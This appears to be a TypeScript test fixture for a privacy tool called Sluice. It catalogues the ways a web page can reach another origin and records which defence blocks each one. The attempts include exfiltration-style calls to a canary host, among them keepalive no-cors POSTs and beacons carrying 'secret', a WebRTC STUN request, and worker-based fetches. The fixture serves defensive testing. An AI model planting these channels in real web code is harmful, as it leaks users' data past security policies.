/** One way in which a page could reach another origin, as code that tries it from inside the page. */
export interface Channel {
  readonly name: string;
  /**
   * Who stops it in Sluice: the page's content security policy, the browser's own rules, or `src/app/lockdown.ts`.
   */
  readonly stoppedBy: 'policy' | 'browser' | 'lockdown';
  /**
   * What a stranger hears of it when nothing stands in the way: a request, packets, or nothing in a headless browser (then
   * the test cannot prove the defence, only that nothing is heard).
   */
  readonly heardOpenly: boolean;
  /** True where Chromium opens an empty connection before it asks the policy; nothing is sent over it. */
  readonly opensConnection?: boolean;
  /** Runs in the page. Tries to reach the canary; whether it throws does not matter. */
  readonly attempt: (origin: string) => unknown;
}

/** Elements that load something as soon as they stand in the document. */
const ELEMENTS: readonly Channel[] = [
  {
    name: 'image',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) => (new Image().src = `${origin}/image`),
  },
  {
    name: 'script',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) =>
      document.head.append(Object.assign(document.createElement('script'), { src: `${origin}/script` })),
  },
  {
    name: 'style sheet',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${origin}/style` }),
      ),
  },
  {
    name: 'picture named in a style',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) => (document.body.style.backgroundImage = `url(${origin}/style-image)`),
  },
  {
    name: 'font',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) => new FontFace('Stranger', `url(${origin}/font)`).load(),
  },
  {
    name: 'media',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) => new Audio(`${origin}/media`).load(),
  },
  {
    name: 'frame',
    stoppedBy: 'policy',
    heardOpenly: true,
    opensConnection: true,
    attempt: (origin) =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: `${origin}/frame` })),
  },
  {
    name: 'object',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) =>
      document.body.append(Object.assign(document.createElement('object'), { data: `${origin}/object` })),
  },
  {
    name: 'manifest',
    stoppedBy: 'policy',
    heardOpenly: false,
    attempt: (origin) =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'manifest', href: `${origin}/manifest` }),
      ),
  },
  {
    name: 'prefetch',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${origin}/prefetch` }),
      ),
  },
  {
    name: 'module preload',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'modulepreload', href: `${origin}/script` }),
      ),
  },
  {
    name: 'preconnect',
    stoppedBy: 'browser',
    heardOpenly: false,
    attempt: (origin) =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'preconnect', href: origin }),
      ),
  },
];

/** Calls that send or fetch. */
const CALLS: readonly Channel[] = [
  { name: 'fetch', stoppedBy: 'policy', heardOpenly: true, attempt: (origin) => fetch(`${origin}/fetch`) },
  {
    name: 'fetch without CORS, kept alive',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) =>
      fetch(`${origin}/kept`, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }),
  },
  {
    name: 'XMLHttpRequest',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) => {
      const request = new XMLHttpRequest();
      request.open('GET', `${origin}/xhr`);
      request.send();
    },
  },
  {
    name: 'WebSocket',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) => new WebSocket(`${origin.replace('http', 'ws')}/socket`),
  },
  {
    name: 'EventSource',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) => new EventSource(`${origin}/events`),
  },
  {
    name: 'beacon',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) => navigator.sendBeacon(`${origin}/beacon`, 'secret'),
  },
  {
    name: 'dynamic import',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) => import(`${origin}/import`),
  },
  {
    name: 'fetch from a worker',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) => {
      const code = new Blob([`fetch('${origin}/from-worker')`], { type: 'text/javascript' });
      new Worker(URL.createObjectURL(code));
    },
  },
  {
    name: 'script imported by a worker',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) => {
      const code = new Blob([`importScripts('${origin}/worker-script')`], { type: 'text/javascript' });
      new Worker(URL.createObjectURL(code));
    },
  },
  {
    name: 'worker of another origin',
    stoppedBy: 'browser',
    heardOpenly: false,
    attempt: (origin) => new Worker(`${origin}/worker`),
  },
  {
    name: 'WebRTC',
    stoppedBy: 'lockdown',
    heardOpenly: true,
    attempt: async (origin) => {
      const urls = origin.replace('http://', 'stun:');
      const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
      connection.createDataChannel('stranger');
      await connection.setLocalDescription(await connection.createOffer());
    },
  },
];

/** What takes the person elsewhere: into another page, or another tab. */
const NAVIGATIONS: readonly Channel[] = [
  {
    name: 'form',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) => {
      const form = Object.assign(document.createElement('form'), {
        action: `${origin}/form`,
        method: 'post',
      });
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'new window',
    stoppedBy: 'lockdown',
    heardOpenly: true,
    attempt: (origin) => void window.open(`${origin}/window`),
  },
  {
    name: 'navigation',
    stoppedBy: 'lockdown',
    heardOpenly: true,
    attempt: (origin) => window.location.assign(`${origin}/away`),
  },
  {
    name: 'ping of a link',
    stoppedBy: 'policy',
    heardOpenly: true,
    attempt: (origin) => {
      const link = Object.assign(document.createElement('a'), { href: '#', ping: `${origin}/ping` });
      document.body.append(link);
      link.click();
    },
  },
];

/** Every channel that `docs/privacy.md` speaks of, but SQL, which has no way but the engine. */
export const CHANNELS: readonly Channel[] = [...ELEMENTS, ...CALLS, ...NAVIGATIONS];
